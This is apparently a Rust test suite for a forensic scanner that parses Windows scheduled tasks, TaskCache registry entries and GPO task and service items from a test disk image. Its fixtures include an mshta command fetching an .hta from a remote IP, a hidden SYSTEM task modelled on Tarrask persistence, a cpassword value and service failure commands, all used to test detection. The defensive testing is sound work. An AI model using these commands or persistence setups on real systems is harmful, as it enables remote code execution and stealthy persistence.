//! Scheduled tasks on the windows-tasks corpus image (corpus/windows_tasks.py writes the
//! tree, mkntfs + ntfs-3g put it on NTFS). Expected values are what that script wrote.
use crate::common::*;
use foothold::{Evidence, ScanSet, ScheduledTaskRecord};

fn report() -> foothold::Report {
    Evidence::open(corpus_image("windows-tasks"))
        .expect("open")
        .scan(ScanSet::all())
}

fn task<'a>(r: &'a foothold::Report, name: &str) -> &'a ScheduledTaskRecord {
    r.scheduled_tasks
        .iter()
        .find(|t| t.task.name == name)
        .unwrap_or_else(|| panic!("no task {name}"))
}

#[test]
fn every_task_file_is_found_and_broken_ones_cost_only_themselves() {
    let r = report();
    // 13 authored + 200 filler XML files, 2 of them broken; "Legacy Updater" exists only as
    // .job; "\Hidden\Tarrask" and "\Orphaned" only in the TaskCache.
    assert_eq!(r.scheduled_tasks.len(), 13 + 200 - 2 + 1 + 2);
    let errs: Vec<&str> = r.errors.iter().map(|e| e.source.path.as_str()).collect();
    assert_eq!(
        errs,
        vec![
            "/Windows/System32/Tasks/Broken/Malformed",
            "/Windows/System32/Tasks/Broken/Truncated"
        ]
    );
    assert!(
        r.errors[0].message.contains("malformed XML"),
        "{}",
        r.errors[0].message
    );
    assert!(r.cron_jobs.is_empty());
}

#[test]
fn triggers_actions_principal_settings() {
    let r = report();
    let all = &task(&r, "\\Triggers\\AllKinds").task;
    let kinds: Vec<&str> = all.triggers.iter().map(|t| t.kind.as_str()).collect();
    assert_eq!(
        kinds,
        vec![
            "time",
            "calendar",
            "calendar",
            "calendar",
            "calendar",
            "boot",
            "logon",
            "idle",
            "event",
            "registration",
            "session_state_change",
            "wnf_state_change"
        ]
    );
    let time = &all.triggers[0];
    assert_eq!(time.id.as_deref(), Some("t1"));
    assert_eq!(
        (
            time.interval.as_deref(),
            time.duration.as_deref(),
            time.stop_at_duration_end
        ),
        (Some("PT15M"), Some("P1D"), Some(true))
    );
    assert_eq!(
        (
            time.end_boundary.as_deref(),
            time.random_delay.as_deref(),
            time.execution_time_limit.as_deref()
        ),
        (Some("2027-11-01T03:00:00"), Some("PT30S"), Some("PT1H"))
    );
    let by_week = all.triggers[2].schedule.as_ref().expect("by week");
    assert_eq!(
        (
            by_week.kind.as_str(),
            by_week.weeks_interval,
            by_week.days_of_week.clone()
        ),
        (
            "by_week",
            Some(3),
            vec!["Monday".to_string(), "Friday".to_string()]
        )
    );
    let by_month = all.triggers[3].schedule.as_ref().expect("by month");
    assert_eq!(by_month.days_of_month, vec!["1", "15", "Last"]);
    assert_eq!(by_month.months, vec!["January", "July"]);
    let mdow = all.triggers[4]
        .schedule
        .as_ref()
        .expect("by month day of week");
    assert_eq!(
        (mdow.weeks.clone(), mdow.days_of_week.clone()),
        (
            vec!["2".to_string(), "Last".to_string()],
            vec!["Sunday".to_string()]
        )
    );
    assert_eq!(all.triggers[5].delay.as_deref(), Some("PT2M"));
    assert_eq!(all.triggers[6].user_id.as_deref(), Some("CORP\\alice"));
    assert!(!all.triggers[7].enabled);
    assert!(all.triggers[8]
        .subscription
        .as_deref()
        .expect("query")
        .contains("*[System[EventID=4625]]"));
    assert_eq!(
        all.triggers[8].value_queries["user"],
        "Event/EventData/Data[@Name='TargetUserName']"
    );
    assert_eq!(
        all.triggers[10].state_change.as_deref(),
        Some("SessionUnlock")
    );
    assert_eq!(
        all.actions[0].arguments.as_deref(),
        Some("/c whoami > C:\\Users\\Public\\w.txt")
    );

    let every = &task(&r, "\\Actions\\Everything").task;
    let kinds: Vec<&str> = every.actions.iter().map(|a| a.kind.as_str()).collect();
    assert_eq!(
        kinds,
        vec!["exec", "exec", "com_handler", "send_email", "show_message"]
    );
    assert_eq!(
        every.actions[0].working_directory.as_deref(),
        Some("C:\\ProgramData")
    );
    assert_eq!(
        every.actions[2].data.as_deref(),
        Some("<payload mode=\"x\"/>"),
        "CDATA kept as text"
    );
    assert_eq!(every.actions[3].fields["Server"], "smtp.example.invalid");
    assert_eq!(every.actions[4].fields["Title"], "Note");
    let p = every.principal.as_ref().expect("principal");
    assert_eq!(
        p.id.as_deref(),
        Some("Author"),
        "the principal Actions Context names"
    );
    assert_eq!(
        (p.group_id.as_deref(), p.logon_type.as_deref()),
        (Some("S-1-5-32-544"), Some("S4U"))
    );
    assert_eq!(
        p.required_privileges,
        vec!["SeDebugPrivilege", "SeImpersonatePrivilege"]
    );
    assert!(every.hidden && !every.enabled);
    assert_eq!(every.flags, vec!["hidden_setting", "no_registry_entry"]);
    assert_eq!(every.settings["IdleSettings/Duration"], "PT10M");
    assert_eq!(every.description.as_deref(), Some("All & every action"));
    assert_eq!(every.schema_version.as_deref(), Some("1.6"));
    assert!(task(&r, "\\Empty\\NoActions").task.actions.is_empty());
}

#[test]
fn names_encodings_provenance_and_reconciliation() {
    let r = report();
    for (name, cmd) in [
        ("\\Encodings\\utf8-no-bom", "C:\\ünïcødé\\ok.exe"),
        ("\\Encodings\\utf8-bom", "C:\\bom.exe"),
        (
            "\\OneDrive Standalone Update Task {A1B2}",
            "C:\\Users\\Public\\od.exe",
        ),
        ("\\S-1-5-21-1111-2222-3333-1001", "C:\\sid.exe"),
        ("\\Ünïcødé\\Задача", "C:\\u.exe"),
        ("\\A\\B\\C\\D\\E\\Deep", "C:\\deep.exe"),
    ] {
        assert_eq!(
            task(&r, name).task.actions[0].command.as_deref(),
            Some(cmd),
            "{name}"
        );
    }
    let renamed = task(&r, "\\Renamed");
    assert_eq!(renamed.task.flags, vec!["uri_path_mismatch", "index_zero"]);
    assert_eq!(renamed.task.uri.as_deref(), Some("\\Original Name"));
    let src = &renamed.source;
    assert_eq!(
        (src.filesystem.as_str(), src.path.as_str()),
        ("ntfs", "/Windows/System32/Tasks/Renamed")
    );
    assert!(
        src.entry.expect("MFT entry") >= 64
            && src.times.created.is_some()
            && src.times.modified.is_some()
    );
    assert!(
        src.times.fn_created.is_some() && src.times.fn_modified.is_some(),
        "$FILE_NAME times of the task file"
    );
    // XML + .job of the same task: one record, both sources.
    let at1 = task(&r, "\\At1");
    assert_eq!(at1.task.sources, vec!["xml", "job", "taskcache"]);
    assert!(at1.task.flags.is_empty(), "{:?}", at1.task.flags);
    assert_eq!(
        at1.job_source.as_ref().expect("job source").path,
        "/Windows/Tasks/At1.job"
    );
    assert_eq!(
        at1.task.job.as_ref().expect("job").status_name.as_deref(),
        Some("has_not_run")
    );
    // A .job alone: disabled and hidden by its flags, three triggers decoded.
    let legacy = &task(&r, "\\Legacy Updater").task;
    assert_eq!(legacy.sources, vec!["job"]);
    assert!(!legacy.enabled && legacy.hidden);
    let kinds: Vec<&str> = legacy.triggers.iter().map(|t| t.kind.as_str()).collect();
    assert_eq!(kinds, vec!["calendar", "logon", "calendar"]);
    assert_eq!(
        legacy.triggers[0]
            .schedule
            .as_ref()
            .expect("weekly")
            .days_of_week,
        vec!["Monday", "Friday"]
    );
    let monthly = legacy.triggers[2].schedule.as_ref().expect("monthly");
    assert_eq!(monthly.days_of_month, vec!["1", "15", "31"]);
    assert_eq!(monthly.months, vec!["January", "December"]);
    assert_eq!(
        legacy.triggers[2].end_boundary.as_deref(),
        Some("2027-01-01T00:00:00")
    );
    assert_eq!(legacy.description.as_deref(), Some("updates things"));
}

/// corpus/task_cache.py built the SOFTWARE hive with hivexsh; hivexget and hivexml are the
/// oracles for its values and key times.
#[test]
fn task_cache_flags_times_and_registry_only_tasks() {
    let r = report();
    let tarrask = task(&r, "\\Hidden\\Tarrask");
    assert_eq!(tarrask.task.sources, vec!["taskcache"]);
    assert_eq!(
        tarrask.task.flags,
        vec!["registry_only", "no_security_descriptor", "hidden_setting"]
    );
    // From the decoded Triggers value: enabled, hidden, SYSTEM, at boot and every 5 minutes.
    assert!(tarrask.task.enabled && tarrask.task.hidden);
    let p = tarrask.task.principal.as_ref().expect("principal");
    assert_eq!(p.user_id.as_deref(), Some("S-1-5-18"));
    assert_eq!(p.id.as_deref(), Some("LocalSystem"));
    assert_eq!(p.run_level.as_deref(), Some("HighestAvailable"));
    let kinds: Vec<&str> = tarrask
        .task
        .triggers
        .iter()
        .map(|t| t.kind.as_str())
        .collect();
    assert_eq!(kinds, ["boot", "calendar"]);
    let beacon = &tarrask.task.triggers[1];
    assert_eq!(beacon.id.as_deref(), Some("beacon"));
    assert_eq!(beacon.interval.as_deref(), Some("PT5M"));
    assert_eq!(
        beacon.start_boundary.as_deref(),
        Some("2026-10-01T08:00:00")
    );
    assert_eq!(
        beacon.schedule.as_ref().and_then(|s| s.days_interval),
        Some(1)
    );
    assert_eq!(
        tarrask.task.command_line(),
        "C:\\Windows\\Temp\\svc.exe -k netsvcs"
    );
    assert_eq!(tarrask.source.path, "/Windows/System32/config/SOFTWARE");
    assert_eq!(
        tarrask.source.key.as_deref(),
        Some("Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Hidden\\Tarrask")
    );
    let tc = tarrask.task.taskcache.as_ref().expect("taskcache");
    assert_eq!(
        tc.id.as_deref(),
        Some("{A0000000-0000-4000-8000-000000000005}")
    );
    assert_eq!(tc.lists, vec!["Boot"]);
    let dynamic = tc.dynamic_info.as_ref().expect("dynamic info");
    assert_eq!(
        dynamic.created.map(|t| t.to_string()).as_deref(),
        Some("2026-10-01T08:00:00Z")
    );
    assert_eq!(
        dynamic.last_run.map(|t| t.to_string()).as_deref(),
        Some("2026-11-25T03:00:00Z")
    );
    let orphan = task(&r, "\\Orphaned");
    assert_eq!(orphan.task.flags, vec!["registry_only", "no_tree_key"]);
    assert!(
        !orphan.task.enabled,
        "its Triggers value has no enabled flag"
    );
    assert_eq!(orphan.task.triggers[0].kind, "logon");
    assert_eq!(
        orphan.task.triggers[0].user_id.as_deref(),
        Some("CORP\\alice")
    );
    assert_eq!(
        task(&r, "\\OneDrive Standalone Update Task {A1B2}")
            .task
            .flags,
        vec!["no_security_descriptor"]
    );
    assert_eq!(
        task(&r, "\\Encodings\\utf8-bom").task.flags,
        vec!["xml_registry_mismatch"]
    );
    let all = task(&r, "\\Triggers\\AllKinds");
    assert_eq!(all.task.sources, vec!["xml", "taskcache"]);
    assert!(all.task.flags.is_empty());
    // Every trigger kind the Triggers value can hold, decoded.
    let blob = all
        .task
        .taskcache
        .as_ref()
        .and_then(|t| t.triggers.as_ref())
        .expect("blob");
    assert!(blob.error.is_none(), "{:?}", blob.error);
    assert_eq!(
        (blob.version, blob.enabled, blob.hidden),
        (0x17, true, false)
    );
    let kinds: Vec<&str> = blob.triggers.iter().map(|t| t.kind.as_str()).collect();
    assert_eq!(
        kinds,
        [
            "time",
            "calendar",
            "calendar",
            "calendar",
            "calendar",
            "boot",
            "idle",
            "registration",
            "logon",
            "session_state_change",
            "event",
            "wnf_state_change"
        ]
    );
    let sched = |i: usize| blob.triggers[i].schedule.clone().expect("schedule");
    assert_eq!(sched(1).days_interval, Some(2));
    assert_eq!(blob.triggers[1].interval.as_deref(), Some("PT5M"));
    assert_eq!(blob.triggers[1].duration.as_deref(), Some("P1D"));
    assert_eq!(sched(2).days_of_week, ["Monday", "Friday"]);
    assert_eq!(sched(3).days_of_month, ["1", "Last"]);
    assert_eq!(sched(3).months.len(), 12);
    assert_eq!(
        (sched(4).weeks.clone(), sched(4).months.clone()),
        (vec!["Last".to_string()], vec!["December".to_string()])
    );
    assert_eq!(blob.triggers[5].delay.as_deref(), Some("PT30S"));
    assert_eq!(blob.triggers[8].user_id.as_deref(), Some("CORP\\alice"));
    assert_eq!(
        blob.triggers[9].state_change.as_deref(),
        Some("SessionUnlock")
    );
    assert!(blob.triggers[10]
        .subscription
        .as_deref()
        .expect("query")
        .contains("EventID=4625"));
    assert_eq!(
        blob.triggers[10]
            .value_queries
            .get("user")
            .map(String::as_str),
        Some("Event/EventData/Data[@Name='TargetUserName']")
    );
    assert_eq!(
        blob.triggers[11].state_name.as_deref(),
        Some("7508BCA33A0B8341")
    );
    assert_eq!(blob.triggers[11].data.as_deref(), Some("01000000"));
    assert_eq!(
        task(&r, "\\A\\B\\C\\D\\E\\Deep").task.flags,
        vec!["no_registry_entry"]
    );

    // Oracles: hivexget for values, hivexml for key last-written times.
    let ev = Evidence::open(corpus_image("windows-tasks")).expect("open");
    let hive = scratch().join("windows-tasks-SOFTWARE");
    std::fs::write(
        &hive,
        ev.read("/Windows/System32/config/SOFTWARE", None, 1 << 30)
            .expect("hive"),
    )
    .expect("write");
    let h = hive.to_str().expect("utf8");
    let Some(id) = tool(
        "hivexget",
        &[
            h,
            "\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Hidden\\Tarrask",
            "Id",
        ],
    ) else {
        skip("hivexget not installed; hive oracle not run");
        return;
    };
    assert_eq!(id.trim(), tc.id.as_deref().expect("id"));
    let xml = tool("hivexml", &[h]).expect("hivexml");
    // The Tarrask node's <mtime> as hivexml prints it.
    let at = xml.find("<node name=\"Tarrask\">").expect("node");
    let mtime = &xml[at..].split("<mtime>").nth(1).expect("mtime")[..20];
    assert_eq!(
        tc.tree_last_written.map(|t| t.to_string()).as_deref(),
        Some(mtime)
    );
}

/// Issue 13.6: a task file without `<URI>` (Windows 11 writes none) is not flagged
/// `uri_path_mismatch`; one whose URI names another path is. Real exported task XML.
#[test]
fn task_without_uri_is_not_a_mismatch() {
    let Some(real) = real_corpus() else { return };
    let src = std::fs::read(real.join("tasks/museum_Tasks__Win10__APTSimulatorVM__GameOver"))
        .expect("task");
    let units: Vec<u16> = src[2..]
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    let xml = String::from_utf16(&units).expect("UTF-16LE");
    assert!(
        xml.contains("<URI>\\GameOver</URI>"),
        "the export has a URI"
    );
    let no_uri = xml.replace("<URI>\\GameOver</URI>", "");
    let moved = xml.replace("<URI>\\GameOver</URI>", "<URI>\\Elsewhere\\GameOver</URI>");
    let root = scratch().join("uri-host");
    let tasks = root.join("Windows/System32/Tasks");
    std::fs::create_dir_all(&tasks).unwrap();
    let utf16 = |s: &str| -> Vec<u8> {
        let mut b = vec![0xFF, 0xFE];
        b.extend(s.encode_utf16().flat_map(u16::to_le_bytes));
        b
    };
    std::fs::write(tasks.join("GameOver"), utf16(&no_uri)).unwrap();
    std::fs::write(tasks.join("Moved"), utf16(&moved)).unwrap();
    let report = foothold::Evidence::open(&root)
        .expect("open")
        .scan(foothold::ScanSet::all());
    let flags = |n: &str| {
        report
            .scheduled_tasks
            .iter()
            .find(|t| t.task.name == n)
            .map(|t| t.task.flags.clone())
            .unwrap_or_else(|| panic!("{n} not found"))
    };
    assert!(!flags("\\GameOver").contains(&foothold::TaskFlag::UriPathMismatch));
    assert!(flags("\\Moved").contains(&foothold::TaskFlag::UriPathMismatch));
}

/// A registry-only task of the corpus (`\Hidden\Tarrask`: TaskCache only), its registration
/// date taken away: the summary's time is its TaskCache key's last write (as the scan read it
/// from the hive, checked against regipy elsewhere), not the SOFTWARE file's modification.
#[test]
fn a_registry_only_task_without_a_date_is_timed_by_its_key() {
    let ev = Evidence::open(corpus_image("windows-tasks")).expect("open");
    let r = ev.scan(ScanSet::none().tasks());
    let mut t: ScheduledTaskRecord = r
        .scheduled_tasks
        .iter()
        .find(|t| t.task.sources == [foothold::TaskSource::Taskcache])
        .cloned()
        .expect("a registry-only task");
    t.created_by = None;
    let key_time = t
        .task
        .taskcache
        .as_ref()
        .and_then(|c| c.task_last_written.or(c.tree_last_written))
        .expect("key time");
    assert!(t.source.key.is_some());
    assert_ne!(t.source.times.modified, Some(key_time));
    assert_eq!(
        foothold::Record::ScheduledTask(&t).summary().time,
        Some(key_time)
    );
}

/// #33: tasks a GPO deploys, on a domain controller's SYSVOL and in a member's cache of a
/// policy (a Windows tree: the real Invoke-GPOwned `ScheduledTasks.xml` on the machine side
/// of one policy, a user-side item written to MS-GPPREF for this test in the cache): each item
/// is a task record with `sources` `gpo` and its `gpo` item, the policy and side from the path.
#[test]
fn gpo_tasks_in_sysvol_and_the_members_cache() {
    let Some(real) = real_corpus() else { return };
    let root = scratch().join("gpo-tree");
    let _ = std::fs::remove_dir_all(&root);
    let guid = "{31B2F340-016D-11D2-945F-00C04FB984F9}";
    let machine = root.join(format!(
        "Windows/SYSVOL/sysvol/corp.example/Policies/{guid}/Machine/Preferences/ScheduledTasks"
    ));
    let cache = root.join(
        "ProgramData/Microsoft/Group Policy/History/{6AC1786C-016F-11D2-945F-00C04FB984F9}/S-1-5-21-1-2-3-1104/Preferences/ScheduledTasks",
    );
    for d in [&machine, &cache, &root.join("Windows/System32/Tasks")] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::copy(
        real.join("gpo/n0troot__Invoke-GPOwned__ScheduledTasks.xml"),
        machine.join("ScheduledTasks.xml"),
    )
    .unwrap();
    // A SYSVOL policy that sets a service's failure to run a program (authored to MS-GPPREF),
    // beside the SYSTEM hive of the windows-tasks image (GPO services are read beside the
    // live ones).
    let services = machine.with_file_name("Services");
    std::fs::create_dir_all(&services).unwrap();
    std::fs::write(
        services.join("Services.xml"),
        r#"<NTServices clsid="{2CFB484A-4E96-4b5d-A0B6-093D2F91E6AE}"><NTService clsid="{AB6F0B67-341F-4e51-92F9-005FBFBA1A43}" name="Spooler" changed="2024-05-06 07:08:12" uid="{9}"><Properties startupType="AUTOMATIC" serviceName="Spooler" serviceAction="RESTART" accountName="LocalSystem" firstFailure="RUNCMD" secondFailure="RUNCMD" thirdFailure="RUNCMD" resetFailCountDelay="0" restartServiceDelay="1" program="C:\ProgramData\upd.exe" args="/s" cpassword="j1Uyj3Vx8TY9LtLZil2uAuZkFQA/4latT76ZwgdHdhw"/></NTService></NTServices>"#,
    )
    .unwrap();
    let config = root.join("Windows/System32/config");
    std::fs::create_dir_all(&config).unwrap();
    let corpus = Evidence::open(corpus_image("windows-tasks")).unwrap();
    std::fs::write(
        config.join("SYSTEM"),
        corpus
            .read("/Windows/System32/config/SYSTEM", None, 1 << 30)
            .unwrap(),
    )
    .unwrap();
    std::fs::write(
        cache.join("ScheduledTasks.xml"),
        r#"<ScheduledTasks clsid="{CC63F200-7309-4ba0-B154-A71CD118ACCC}"><ImmediateTask clsid="{9F030EBD-1E5E-4d0e-A33A-1A5B7F1F6BE3}" name="UserOneShot" changed="2024-05-06 07:08:10" uid="{8}"><Properties action="C" name="UserOneShot" appName="mshta.exe" args="http://203.0.113.9/a.hta"/></ImmediateTask></ScheduledTasks>"#,
    )
    .unwrap();
    // The member's cache of a machine policy whose item made a task that is on the machine —
    // but that task now runs something else (authored to MS-GPPREF for this test).
    let applied = root.join(
        "ProgramData/Microsoft/Group Policy/History/{C1A2B3C4-0000-4000-8000-00000000AAAA}/Machine/Preferences/ScheduledTasks",
    );
    std::fs::create_dir_all(&applied).unwrap();
    std::fs::write(
        applied.join("ScheduledTasks.xml"),
        r#"<ScheduledTasks clsid="{CC63F200-7309-4ba0-B154-A71CD118ACCC}"><Task clsid="{2DEECB1C-261F-4e13-9B21-16FB83BC03BD}" name="Updater" changed="2024-05-06 07:08:11" uid="{7}"><Properties action="U" name="Updater" appName="C:\Tools\update.exe" args="/q"><Triggers><Trigger type="DAILY" startHour="9" startMinutes="0" beginYear="2024" beginMonth="5" beginDay="6" interval="1"/></Triggers></Properties></Task></ScheduledTasks>"#,
    )
    .unwrap();
    std::fs::write(
        root.join("Windows/System32/Tasks/Updater"),
        r"<Task><Actions><Exec><Command>C:\Users\Public\u.exe</Command></Exec></Actions></Task>",
    )
    .unwrap();
    let r = Evidence::open(&root)
        .unwrap()
        .scan(ScanSet::none().tasks().services());
    // One record for the task and the item that made it.
    let updater: Vec<_> = r
        .scheduled_tasks
        .iter()
        .filter(|t| t.task.name == "\\Updater")
        .collect();
    assert_eq!(updater.len(), 1, "{updater:#?}");
    let u = updater[0];
    assert_eq!(
        u.task.sources,
        [
            foothold_windows::TaskSource::Xml,
            foothold_windows::TaskSource::Gpo
        ]
    );
    assert!(u.source.path.ends_with("System32/Tasks/Updater"));
    assert!(u.gpo_source.as_ref().unwrap().path.ends_with(
        "{C1A2B3C4-0000-4000-8000-00000000AAAA}/Machine/Preferences/ScheduledTasks/ScheduledTasks.xml"
    ));
    let g = u.gpo.as_ref().unwrap();
    assert_eq!(
        (g.action.as_str(), g.uid.as_deref()),
        ("update", Some("{7}"))
    );
    assert_eq!(u.task.flags, [foothold_windows::TaskFlag::GpoItemDiffers]);
    let gpo: Vec<_> = r
        .scheduled_tasks
        .iter()
        .filter(|t| t.gpo.is_some() && t.task.name != "\\Updater")
        .collect();
    assert_eq!(gpo.len(), 2, "{:?}", r.errors);
    let owned = gpo.iter().find(|t| t.task.name == "\\OWNED").unwrap();
    let g = owned.gpo.as_ref().unwrap();
    assert_eq!(
        (g.policy.as_deref(), g.side.as_deref()),
        (Some(guid), Some("machine"))
    );
    assert!(owned
        .source
        .path
        .ends_with("/Machine/Preferences/ScheduledTasks/ScheduledTasks.xml"));
    assert_eq!(owned.task.sources, [foothold_windows::TaskSource::Gpo]);
    let user = gpo.iter().find(|t| t.task.name == "\\UserOneShot").unwrap();
    let g = user.gpo.as_ref().unwrap();
    assert_eq!(
        (g.policy.as_deref(), g.side.as_deref(), g.kind.as_str()),
        (
            Some("{6AC1786C-016F-11D2-945F-00C04FB984F9}"),
            Some("user"),
            "immediate_task"
        )
    );
    assert_eq!(user.task.actions[0].command.as_deref(), Some("mshta.exe"));
    assert!(r.errors.is_empty(), "{:?}", r.errors);
    // Findings weigh how it is deployed: every GPO task is, an immediate one more so.
    let findings = r.findings();
    let owned = findings
        .iter()
        .find(|(f, _)| f.subject.name == "\\OWNED")
        .map(|(f, _)| f)
        .unwrap();
    let ids: Vec<&str> = owned.reasons.iter().map(|x| x.id.as_str()).collect();
    assert!(
        ids.contains(&"gpo_deployed") && ids.contains(&"gpo_immediate"),
        "{ids:?}"
    );
    assert!(
        owned.techniques.iter().any(|t| t == "T1484.001"),
        "{:?}",
        owned.techniques
    );
    let upd = findings
        .iter()
        .find(|(f, _)| f.subject.name == "\\Updater")
        .map(|(f, _)| f)
        .unwrap();
    let ids: Vec<&str> = upd.reasons.iter().map(|x| x.id.as_str()).collect();
    assert!(
        ids.contains(&"gpo_deployed") && ids.contains(&"gpo_item_differs"),
        "{ids:?}"
    );
    // The service item: what it sets, the password's presence, its reasons.
    let spooler = r
        .services
        .iter()
        .find(|s| s.gpo.is_some())
        .expect("the GPO service");
    let g = spooler.gpo.as_ref().unwrap();
    assert_eq!(
        (
            g.kind.as_str(),
            g.action.as_str(),
            g.policy.as_deref(),
            g.side.as_deref()
        ),
        ("service", "restart", Some(guid), Some("machine"))
    );
    assert!(g.cpassword_present);
    assert_eq!(
        (
            spooler.service.name.as_str(),
            spooler.service.start_name.as_deref()
        ),
        ("Spooler", Some("automatic"))
    );
    assert_eq!(
        spooler.service.failure_command.as_deref(),
        Some(r"C:\ProgramData\upd.exe /s")
    );
    assert!(spooler
        .source
        .path
        .ends_with("/Machine/Preferences/Services/Services.xml"));
    let f = findings
        .iter()
        .find(|(f, _)| f.subject.artifact == "service" && f.subject.name == "Spooler")
        .map(|(f, _)| f)
        .unwrap();
    let ids: Vec<&str> = f.reasons.iter().map(|x| x.id.as_str()).collect();
    assert!(
        ids.contains(&"gpo_deployed") && ids.contains(&"gpo_cpassword"),
        "{ids:?}"
    );
}
